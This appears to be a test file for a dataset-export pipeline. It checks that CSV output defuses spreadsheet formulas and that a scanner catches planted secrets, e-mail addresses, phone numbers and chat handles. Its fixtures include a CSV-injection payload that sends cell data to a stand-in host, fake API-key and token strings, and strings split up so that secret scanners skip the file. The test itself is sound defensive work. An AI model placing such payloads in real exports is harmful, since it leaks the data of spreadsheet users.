import { parse } from "csv-parse/sync";
import { parquetReadObjects } from "hyparquet";
import { expect, it } from "vitest";
import { openCatalogue } from "../../scenes/shop/catalogue.js";
import { toParquet } from "../../src/datasets/release/flat-tables.js";
import {
  exactText,
  fieldColumns,
  splitOf,
  toCsv,
  toJsonLines,
  toTable,
} from "../../src/datasets/release/tables.js";
import { createScan } from "../../src/datasets/scan/scan.js";
import { createFileScan, namesOfWorlds } from "../../src/datasets/scan/scan-file.js";

const formulas = [
  '=HYPERLINK("http://evil.example?"&A1)',
  "=1+1",
  "+49 30 1",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "\u00a0=1",
  "\u200b=1",
  "\ufeff@SUM(A1)",
  "＝1+1",
  "－1",
  "'=1",
  "''=1",
  "'\t",
  "=a,b\nc",
];
const harmless = ["mug 1", "", "a=b", "'tis", "it's", "2026-03-04", "x;y", 'she said "hi"', "'"];

function cellsOf(csv: string): readonly string[] {
  return (parse(csv, { columns: false }) as string[][]).flat();
}

it("writes no text as a formula, and reads each text back as it was", () => {
  for (const text of [...formulas, ...harmless]) {
    const csv = toCsv(toTable(fieldColumns("STRING", "text"), [{ text }]));
    const [name, cell = ""] = cellsOf(csv.replace(/\n$/, ""));
    expect(name).toBe("text");
    expect(cell, JSON.stringify(text)).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u);
    expect(exactText(cell), JSON.stringify(text)).toBe(text);
  }
  const plain = toCsv(toTable(fieldColumns("STRING", "text"), [{ text: "mug 1" }]));
  expect(plain).toBe("text\nmug 1\n");
});

it("makes a column's name inert, and leaves numbers and truth values as they are", () => {
  const columns = { "=a": ["STRING", () => null], n: ["DOUBLE", () => -1.5] } as const;
  const csv = toCsv(toTable({ ...columns, b: ["BOOLEAN", () => true] }, [{}]));
  expect(csv).toBe("'=a,n,b\n,-1.5,true\n");
});

it("keeps the exact text in Parquet and in JSON lines", async () => {
  // The Parquet reader drops a byte order mark.
  const rows = formulas.filter((text) => !text.startsWith("\ufeff")).map((text) => ({ text }));
  const table = toTable(fieldColumns("STRING", "text"), rows);
  const parquet = await parquetReadObjects({ file: new Uint8Array(toParquet(table)).buffer });
  expect(parquet).toEqual(rows);
  const lines = toJsonLines(rows).trimEnd().split("\n");
  expect(lines.map((line) => JSON.parse(line))).toEqual(rows);
});

const known = {
  names: ["Zebulon Quist", "Zebulon", "Quist", "Łucja", "Ana", "O'Hara"],
  ids: ["U024BE7LH", "team-4711-blue", "words1"],
};

/** Assembled at run time, so that secret scanners ignore this file. */
const join = (...parts: readonly string[]) => parts.join("");
const random = "Q7wX9eR2tY5uI8oP1aS4dF6gH3jK0lZ2";
const digits = "948201736455019283";

const planted: Readonly<Record<string, readonly string[]>> = {
  "e-mail address": [
    "zq@example.org",
    "ÄNNE@straße.example.de",
    "someone [at] example.com",
    "me(at)host.net",
  ],
  secret: [
    ...["xoxb", "xoxp", "xoxa", "xoxr", "xoxs", "xapp", "xoxe"].map((kind) =>
      join(kind, "-1-A0123456789-", random),
    ),
    join("MTk4NjIyNDgzNDcxOTI1MjQ4", ".", "Cl2FMQ", ".", random),
    join("mfa", ".", random, random),
    join("NzkyNzE1NDU0MTk2MDg4ODQy", ".", "X-hvzA", ".", "Ovy4MCQywSkoMRRclStW4xAYK7I"),
    join("eyJhbGciOiJIUzI1NiJ9", ".", "eyJzdWIiOiIxMjM0In0", ".", "abc123"),
    join("eyJ0eXAiOiJKV1QifQxx", ".", "eyJuYW1lIjoiWiJ9abcd", "."),
    ...["ghp_", "gho_", "ghu_", "ghs_", "ghr_"].map((kind) => join(kind, random, "abcd")),
    join("github", "_pat_", random),
    join("glpat", "-", random),
    join("npm", "_", random, "abcd"),
    join("hf", "_", random),
    join("pypi", "-", random),
    join("AI", "za", random, "abc"),
    join("SG", ".", random.slice(0, 22), ".", random),
    ...["sk-", "sk-proj-", "sk-ant-", "sk_live_", "sk_test_", "pk_live_", "rk_live_"].map((kind) =>
      join(kind, random),
    ),
    ...["AKIA", "ASIA", "AROA", "AIDA"].map((kind) => join(kind, "IOSFODNN7EXAMPLE")),
    join("Bearer ", random),
  ],
  password: [
    "password: hunter2x",
    "my secret is swordfish",
    "API key = abcd1234",
    'token: "zzzz-yyyy"',
  ],
  "private key": [
    join("-----BEGIN ", "PRIVATE KEY-----"),
    join("-----BEGIN RSA ", "PRIVATE KEY-----"),
    join("-----BEGIN OPENSSH ", "PRIVATE KEY-----"),
  ],
  "link with a secret": [
    "https://example.org/x?token=abc",
    "https://u:p@example.org/",
    "https://hooks.slack.com/services/T0/B0/x",
    "https://discord.gg/abcdef",
    "https://s3/x?X-Amz-Signature=1",
    "postgres://user:pw@db/x",
    "https://h/#access_token=qq",
  ],
  mention: ["<@U024BE7LH>", `<@!${digits}>`, `<#${digits}>`, "<!channel>"],
  "Slack id": ["U0479XWQ1", "W012A3CDE", "C0815ZZZZ", "T0001ABCD", "D069C7QFK"],
  "Discord id": [digits, "17538439283746510", "1129384756102938475", `by ${digits}, I think`],
  handle: ["@zebu_q", "thanks @quist.z", "zebu#0042"],
  "phone number": [
    "+49 30 1234567",
    "(030) 123 4567",
    "555-010-0199",
    "0171 2345678",
    "0049 171 2345678",
  ],
  "network address": ["192.168.0.17", "8.8.4.4"],
  "bank account": ["DE89 3704 0044 0532 0130 00", "GB29NWBK60161331926819"],
  name: ["ZEBULON was here", "it is zebulon's", "Quist", "łucja", "ask O'Hara", "so:\nzebulon"],
  "platform id": ["team-4711-blue"],
};

it("finds planted secrets and handles of every kind, and names file, line and kind", () => {
  const scan = createScan(known);
  const secrets = Object.entries(planted).flatMap(([kind, texts]) =>
    texts.map((text) => ({ kind, text })),
  );
  const lines = secrets.map(({ text }) => JSON.stringify({ text: `well, ${text} ok` }));
  const leaks = createFileScan(scan)("data/train.jsonl", lines.join("\n"), "all").found;
  const missed = secrets.filter(
    ({ kind }, index) => !leaks.some((leak) => leak.line === index + 1 && leak.kind === kind),
  );
  expect(missed).toEqual([]);
  expect(leaks[0]).toMatchObject({ line: 1, kind: "e-mail address", found: "zq@example.org" });
});

it("takes nothing for a leak that is none", () => {
  const scan = createScan(known);
  const scanFile = createFileScan(scan, namesOfWorlds(scan, ["Where is Ana's mug?"]));
  const harmless = [
    '{"id":"q-782454ffa6634cd0","at":"2026-11-21T13:00:00.000Z","order":3}',
    `{"observationHash":"${"0a1b2c3d".repeat(8)}","world":"12345678901234567abcdef012345678"}`,
    // Hashes with the length and remainder of an IBAN, but with letters.
    '{"ballot":"b-be160425e40202a3","hash":"ba689abd93c9c6a7d08b5b5c04dd27f6d69755ebe9a87fb969e73dfc11660e38"}',
    '{"sentence":"Where is Ana\'s mug?","actions":["go to cabinet 2"],"engine":"household/1 2.1.2"}',
    "loc_bar__minus_1_bar_4_bar_1_bar_60 Apple_bar__plus_00_dot_45_bar__plus_00_dot_92",
    "license: cc-by-4.0, n<1K, 10K<n<100K, TARGET, COUNTERTOP, tokens are counted",
    "I think it is in the top drawer, left of the sink; 3 or 4 mugs are there.",
    "@SUM(1) in other words 1 of 3",
  ];
  expect(scanFile("some.txt", harmless.join("\n"), "all").found).toEqual([]);
});

it("puts about a tenth of the households into each of the small splits", () => {
  const counts = { train: 0, validation: 0, test: 0 };
  for (let home = 0; home < 2000; home++) counts[splitOf(`h-${home}`)] += 1;
  expect(counts.test / 2000).toBeCloseTo(0.1, 1);
  expect(counts.validation / 2000).toBeCloseTo(0.1, 1);
  expect(counts.train).toBeGreaterThan(1500);
});

it("finds nobody in what is said of the shop's own products", () => {
  const scan = createScan({ names: [], ids: [] });
  const { size, at } = openCatalogue("own");
  const products = Array.from({ length: size }, (_, number) => at(number));
  const texts = products.flatMap(({ title, options }) => [
    `Opened ${title}.`,
    `Bought: ${title}, size ${[...options.values()].flat()[0]}. Price: $3.00`,
    `usual thing: ${title} ($3.00)`,
    `It is ${title}`,
    ...[...options.values()].flat().map((value) => `I was told: ${value}.`),
  ]);
  expect(texts.flatMap((text) => scan(text).map(({ kind }) => `${kind}: ${text}`))).toEqual([]);
});
